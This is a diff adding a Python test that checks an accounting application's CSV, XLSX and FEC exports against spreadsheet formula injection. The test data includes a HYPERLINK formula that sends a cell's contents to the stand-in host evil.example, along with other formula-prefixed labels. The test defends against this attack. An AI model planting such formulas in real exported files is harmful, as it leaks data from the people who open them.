@@ -272,3 +272,53 @@ def test_postgresql_copy_writes_the_same_csv_as_the_python_writer(api, session, 
     ).body
     assert copied == written
     assert b'"Vente ""sp\xc3\xa9ciale""; avec s\xc3\xa9parateur"' in copied
+
+
+HOSTILE_LABELS = (
+    '=HYPERLINK("http://evil.example/?"&A1,"x")',
+    "+1+1",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "\tcache",
+    "\rretour",
+)
+
+
+def hostile_entry(api) -> None:
+    """A posted entry whose labels start as spreadsheet formulas do."""
+    lines = []
+    for n, label in enumerate(HOSTILE_LABELS[1:], start=1):
+        lines.append({"compte": "4111", "libelle": label, "debit": str(100 * n)})
+    lines.append(
+        {
+            "compte": "7011",
+            "libelle": HOSTILE_LABELS[0],
+            "credit": str(100 * sum(range(1, len(HOSTILE_LABELS)))),
+        }
+    )
+    body = {"journal": "VTE", "date_comptable": "2026-02-01", "libelle": HOSTILE_LABELS[0], "lignes": lines}
+    api.post("/api/v1/ecritures/", {**body, "valider": True}, status=201)
+
+
+def test_exports_never_keep_a_formula_live(api):
+    """OWASP's CSV injection: every CSV path (the COPY one too) prefixes a cell that starts
+    like a formula with an apostrophe; XLSX keeps the text, typed as text; the FEC keeps it."""
+    hostile_entry(api)
+    for url in (LEDGER, JOURNAL):
+        text = api.get(url, exercice="2026", format="csv").body.decode("utf-8-sig")
+        assert (
+            "'\rretour" in text and ";\rretour" not in text and '"\rretour' not in text
+        )  # csv.reader splits at CR
+        cells = [cell for row in csv.reader(io.StringIO(text, newline=""), delimiter=";") for cell in row]
+        for label in HOSTILE_LABELS[:5]:
+            assert label not in cells, (url, label)  # never as it was typed
+            assert "'" + label in cells, (url, label)  # but there, defused
+        assert not any(c.startswith(("=", "+", "@", "\t", "\r")) for c in cells), url
+        book = load_workbook(io.BytesIO(api.get(url, exercice="2026", format="xlsx").body))
+        sheet = book.active
+        typed = {c.value: c.data_type for row in sheet.iter_rows() for c in row if isinstance(c.value, str)}
+        for label in HOSTILE_LABELS[:4]:  # openpyxl reads control characters back escaped
+            assert typed.get(label) == "s", (url, label)  # the text itself, a string cell
+        assert "f" not in {c.data_type for row in sheet.iter_rows() for c in row}
+    fec = api.get("/api/v1/exercices/2026/fec/").body.decode("latin-1")
+    assert HOSTILE_LABELS[0] in fec and "'" + HOSTILE_LABELS[0] not in fec  # the format keeps it
